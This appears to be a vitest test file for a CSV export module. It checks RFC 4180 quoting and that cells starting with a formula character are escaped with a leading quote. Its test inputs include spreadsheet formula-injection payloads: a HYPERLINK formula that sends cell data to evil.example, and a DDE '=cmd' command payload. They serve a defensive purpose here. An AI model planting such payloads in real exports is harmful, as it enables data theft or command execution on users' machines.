import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, csvLines, neutralizeFormula, restoreFormula } from '../../../lib/evidence/csv.js';
import type { Column } from '../../../lib/evidence/evidenceTable.js';
import { parseCsv } from './support.js';

async function text(pieces: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const p of pieces) out += p;
  return out;
}

async function* from<T>(rows: T[]): AsyncGenerator<T> {
  yield* rows;
}

describe('csv', () => {
  it('quotes per RFC 4180 only where needed', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField('lf\nonly')).toBe('"lf\nonly"');
    expect(csvField(undefined)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvField(false)).toBe('false');
  });

  it('neutralises every formula starter with a leading single quote, and only text', () => {
    for (const dangerous of [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1',
      '\r=1',
    ]) {
      expect(neutralizeFormula(dangerous)).toBe(`'${dangerous}`);
    }
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=cmd|" /C calc"!A0')).toBe('"\'=cmd|"" /C calc""!A0"');
    expect(csvField(-5)).toBe('-5');
    expect(neutralizeFormula('2026-01-01T00:00:00.000Z')).toBe('2026-01-01T00:00:00.000Z');
    // A value that already starts with a quote before a formula starter is escaped again, so the escape is reversible.
    expect(neutralizeFormula("'=x")).toBe("''=x");
    for (const value of ['=x', "'=x", "''-1", "'plain", 'plain', '@a'])
      expect(restoreFormula(neutralizeFormula(value))).toBe(value);
  });

  it('writes a BOM, a header and CRLF records that parse back to the same data', async () => {
    type Row = { id: number; text: string; note?: string };
    const columns: Column<Row>[] = [
      { name: 'id', value: (r) => r.id },
      { name: 'text', value: (r) => r.text },
      { name: 'note', value: (r) => r.note },
    ];
    const rows: Row[] = [
      { id: 1, text: 'O\'Brien & "Partners", Zürich', note: 'multi\r\nline' },
      { id: 2, text: '日本語 ✓', note: undefined },
      { id: 3, text: '=HYPERLINK("http://evil.example","x")', note: '' },
    ];
    const out = await text(csvLines(columns, from(rows)));
    expect(out.startsWith(CSV_BOM)).toBe(true);
    const parsed = parseCsv(out.slice(CSV_BOM.length));
    expect(parsed[0]).toEqual(['id', 'text', 'note']);
    expect(
      parsed
        .slice(1)
        .map(([id, t, note]) => ({ id: Number(id), text: restoreFormula(t ?? ''), note: note || undefined })),
    ).toEqual(rows.map((r) => ({ ...r, note: r.note || undefined })));
    expect(parsed[3]?.[1]?.startsWith("'=")).toBe(true);
    expect(await text(csvLines(columns, from([]), { bom: false }))).toBe('id,text,note\r\n');
  });
});
